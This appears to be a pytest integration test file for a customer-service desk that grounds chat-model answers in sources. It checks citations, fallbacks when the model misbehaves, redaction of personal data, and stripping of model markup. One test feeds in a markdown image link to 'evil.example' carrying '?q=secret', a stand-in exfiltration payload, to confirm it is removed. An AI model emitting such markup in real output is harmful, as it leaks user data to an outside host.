"""With a chat model the desk answers in checked words; whatever the model does, an answer comes in time."""

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from apps.customer_service.app import app
from apps.customer_service.pipeline.drafting import Drafter, draft, open_drafter, rewritten
from apps.customer_service.pipeline.knowledge import import_rows
from apps.customer_service.schemas.asking import Turn
from core.app import Services
from core.generation.grounded import prompt
from core.generation.local_chat import LocalChatModel
from core.migrations import upgrade
from core.services import close_services, open_services
from core.settings import Settings
from core.testing.api import api_client
from core.testing.fakes import FixedClock, LetterEncoder
from core.training.command import Order, run
from tests.core.generation.conftest import quiet, train_talker
from tests.core.generation.misbehaving import Misbehaving
from tests.ui.support_desk import listening

pytestmark = pytest.mark.integration

SECONDS = 1.0
ANSWERING = {"customer_service": {"refuse_below": 1e-9, "answer_above": 1e-9}}
ROWS = [
    {"id": "fee", "question": "What does a new card cost?", "answer": "A new card costs £5. It comes by post."},
    {"id": "pin", "question": "Where do I see my PIN?", "answer": "The app shows your PIN."},
]
QUESTION = {"question": "what does a new card cost"}


@contextmanager
def opened(**chosen: Any) -> Iterator[tuple[TestClient, Services]]:
    """The API over the desk."""
    settings = Settings(**{"apps": ANSWERING, "chat_seconds": SECONDS, "chat_characters": 500, **chosen})
    services = open_services(settings, encoder=LetterEncoder(), clock=FixedClock())
    try:
        upgrade(services.database, [app])
        import_rows(ROWS, services.collections.ensure("support"))
        with api_client(services, [app]) as client:
            yield client, services
    finally:
        close_services(services)


@contextmanager
def asked_by(server: Misbehaving, **chosen: Any) -> Iterator[tuple[TestClient, Services]]:
    """The same with a chat model on a real server."""
    with (
        listening(server.app()) as url,
        opened(chat_model="m", chat_url=f"{url}/v1", **chosen) as (client, services),
    ):
        yield client, services


def ask(client: TestClient, **more: Any) -> dict[str, Any]:
    answer = client.post("/v1/support/ask", json={**QUESTION, **more})
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def test_a_draft_is_cited_to_the_character(database_url: str):
    server = Misbehaving(says="It comes by post [1]. A new card costs £5. [1]")
    with asked_by(server, database_url=database_url) as (client, services):
        found = ask(client)
        assert (found["source"], found["fallback"], found["action"]) == ("model", None, "answer")
        assert found["answer"] == "It comes by post. [1] A new card costs £5. [2]"
        for citation, said in zip(found["citations"], ("It comes by post.", "A new card costs £5."), strict=True):
            [stored] = services.collections.get("support").documents([citation["document"]])
            assert stored.text[citation["start"] : citation["end"]] == citation["text"] == said


def test_without_a_chat_model_the_sources_own_sentences_answer():
    with opened() as (client, _):
        found = ask(client)
    assert (found["source"], found["fallback"]) == ("extractive", None)
    assert found["answer"] == "A new card costs £5. It comes by post. [1]"


@pytest.mark.parametrize(
    ("behaviour", "says", "reason"),
    [
        ("hang", "", "timeout"),
        ("drip", "", "timeout"),
        ("ramble", "", "rambling"),
        ("500", "", "refused"),
        ("page", "", "garbled"),
        ("empty", "", "empty"),
        ("well", "A new card costs £6. [1]", "unsupported"),
        ("well", "A new card costs £5.", "unsupported"),
        ("well", "The app shows your PIN. [2]", "unsupported"),  # true, but not of the document that was found
    ],
)
def test_whatever_the_model_does_the_sources_answer_in_time_and_it_is_said_why(behaviour: str, says: str, reason: str):
    server = Misbehaving(says="A new card costs £5. [1]")
    with asked_by(server) as (client, _):
        ask(client)  # the client's library is imported now, which takes seconds on a busy machine
        server.behaviour, server.says = behaviour, says
        begin = time.monotonic()
        found = ask(client)
        assert time.monotonic() - begin < SECONDS + 3
        assert (found["source"], found["fallback"]) == ("extractive", reason)
        assert found["answer"] == "A new card costs £5. It comes by post. [1]"


def test_a_dead_model_is_not_asked_again_and_again():
    server = Misbehaving(behaviour="500")
    with asked_by(server) as (client, _):
        reasons = [ask(client)["fallback"] for _ in range(5)]
    assert reasons == ["refused"] * 3 + ["resting"] * 2
    assert len(server.asked) == 3


def test_both_doors_know_that_a_model_is_dead():
    server = Misbehaving(behaviour="500")
    with asked_by(server) as (client, _):
        for _ in range(3):
            ask(client)
        turns = [{"role": "user", "content": QUESTION["question"]}]
        said = client.post("/v1/chat/completions", json={"model": "trivium-support", "messages": turns}).json()
    assert (said["trivium"]["fallback"], len(server.asked)) == ("resting", 3)


def test_the_bench_shows_what_the_model_says():
    with asked_by(Misbehaving(says="A new card costs £5. [1]")) as (client, _):
        tried = client.post("/v1/support/knowledge/try", json=QUESTION).json()
    assert (tried["answer"]["source"], tried["answer"]["answer"]) == ("model", "A new card costs £5. [1]")


def test_no_more_of_a_conversation_is_cleaned_than_the_model_reads():
    cleaned: list[str] = []

    def clean(text: str) -> str:
        cleaned.append(text)
        return text

    server = Misbehaving()
    with asked_by(server) as (_, services):
        hits = services.collections.get("support").search("new card cost", 2)
        turns = [Turn(role="user", text=f"turn {n}") for n in range(40)]
        drafter = open_drafter(services)
        assert drafter is not None
        draft("what does it cost?", turns, hits, drafter.chat_model, drafter.encoder, cleaned=clean)
    assert cleaned == ["what does it cost?", *(f"turn {n}" for n in range(34, 40))]


def test_a_model_is_asked_only_for_what_is_answered():
    server = Misbehaving()
    never = {"customer_service": {"refuse_below": 1.0}}
    with asked_by(server, apps=never) as (client, _):
        found = ask(client)
    assert (found["action"], found["source"], server.asked) == ("handoff", "extractive", [])


def test_markup_of_the_model_never_reaches_the_answer():
    says = "![x](http://evil.example/?q=secret) **A new card** costs <b>£5</b> [1](http://evil.example). [1]"
    with asked_by(Misbehaving(says=says)) as (client, _):
        assert ask(client)["answer"] == "A new card costs £5. [1]"


def test_no_personal_data_reach_the_model_from_a_question_or_a_conversation():
    server = Misbehaving()
    with asked_by(server) as (client, _):
        question = "what does a new card cost? write to lena.voss@example.org or call +49 30 901820"
        turns = [{"role": "user", "text": "my IBAN is DE89 3704 0044 0532 0130 00"}]
        assert client.post("/v1/support/ask", json={"question": question, "turns": turns}).json()["source"] == "model"
        begun = client.post("/v1/support/conversations", json={"message": {"text": question}}).json()
        assert begun["exchange"]["reply"]["data"]["action"] == "answer"
    read = json.dumps([asked["messages"] for asked in server.asked])
    assert len(server.asked) == 2
    assert not [part for part in ("lena", "901820", "3704") if part in read]


def test_the_seams_for_personal_data_and_injection_stand_before_the_model():
    server = Misbehaving()
    with asked_by(server) as (_, services):
        drafter = open_drafter(services)
        assert drafter is not None
        hits = services.collections.get("support").search("new card cost", 2)
        turns = [Turn(role="user", text="I am Ann"), Turn(role="agent", text="Hello Ann")]
        drafted = draft(
            "Ann asks: what does a new card cost?",
            turns,
            hits,
            drafter.chat_model,
            drafter.encoder,
            cleaned=lambda text: text.replace("Ann", "<NAME>"),
            neutralised=lambda text: text.replace("post", "mail"),
        )
        read = json.dumps(server.asked[0]["messages"])
    assert "Ann" not in read
    assert read.count("<NAME>") == 3
    assert "It comes by mail." in read
    assert drafted.citations[0].text == "A new card costs £5."


def test_a_follow_up_is_rewritten_before_the_search_where_that_is_set():
    server = Misbehaving(says="What does a new card cost by post?")
    turns = [Turn(role="user", text="What does a new card cost?")]
    with asked_by(server) as (_, services):
        plain_one = open_drafter(services)
        assert isinstance(plain_one, Drafter)
        willing = replace(plain_one, rewrites=True)
        assert rewritten("and by post?", turns, plain_one) == "and by post?"
        assert rewritten("and by post?", turns, willing) == "What does a new card cost by post?"
        assert rewritten("and by post?", [], willing) == "and by post?"


def test_a_local_model_that_was_trained_for_it_answers(tmp_path: Path):
    """It learns one answer by heart; that it is used only where sources say so is the desk's doing."""
    with opened(home=tmp_path / "desk") as (_, services):
        hits = services.collections.get("support").search("what does a new card cost", 8)
    words = "\n".join(str(message.content) for message in prompt("what does a new card cost", [], hits))
    house = train_talker(tmp_path, f"{words}\n" * 3, max_position_embeddings=1024, vocab_size=900)
    rows = []
    for number in range(12):
        system, asked = prompt(f"what does a new card cost{'?' * number}", [], hits)
        told = [("system", system.content), ("user", asked.content), ("assistant", "A new card costs £5. [1]")]
        rows.append({"messages": [{"role": role, "content": content} for role, content in told]})
    data = tmp_path / "desk.jsonl"
    data.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    chosen = {"epochs": 25, "batch": 4, "learning_rate": 5e-3, "max_tokens": 512}
    run(Order(task="dialogue", data=[data], name="deskhand", base="writer", chosen=chosen), house, quiet, quiet)
    with opened(home=house.home, chat_model="deskhand@1", chat_seconds=60) as (client, services):
        assert isinstance(services.chat_model, LocalChatModel)
        found = ask(client)
        assert (found["source"], found["answer"], found["fallback"]) == ("model", "A new card costs £5. [1]", None)
        assert ask(client, question="where do I see my pin")["source"] == "extractive"
